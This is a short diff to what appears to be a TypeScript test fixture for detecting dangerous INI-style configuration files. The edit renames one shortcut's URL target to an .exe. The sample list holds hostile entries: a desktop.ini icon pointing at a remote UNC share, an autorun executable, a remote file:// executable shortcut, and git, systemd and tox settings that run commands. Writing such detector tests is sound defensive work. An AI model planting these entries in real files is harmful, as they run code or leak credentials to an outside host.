@@ -28,7 +28,7 @@ const texts: Record<string, { name: string; honest: string; twins: string[] }> =
   'settings in sections': {
     name: 'app.ini', honest: '[window]\nwidth = 800\n; wide\nlast file = C:\\Users\\anna\\a.txt\n',
     twins: [
-      '[.ShellClassInfo]\nIconResource=\\\\203.0.113.1\\x\\a.ico\n', '[autorun]\nopen=a.exe\n', '[InternetShortcut]\nURL=file://203.0.113.1/a.exe\n', '[InternetShortcut]\nURL=https://example.org/page\n', '[core]\nsshCommand = sh -c id\n', '[alias]\nst = !id\n',
+      '[.ShellClassInfo]\nIconResource=\\\\203.0.113.1\\x\\a.ico\n', '[autorun]\nopen=a.exe\n', '[InternetShortcut]\nURL=file://203.0.113.1/a.exe\n', '[InternetShortcut]\nURL=https://example.org/page.exe\n', '[core]\nsshCommand = sh -c id\n', '[alias]\nst = !id\n',
       '[window]\nwidth = \\\\203.0.113.1\\share\n', '[Service]\nType=oneshot\nExecStart=/tmp/a\n', '[testenv]\ncommands = id\n',
     ],
   },
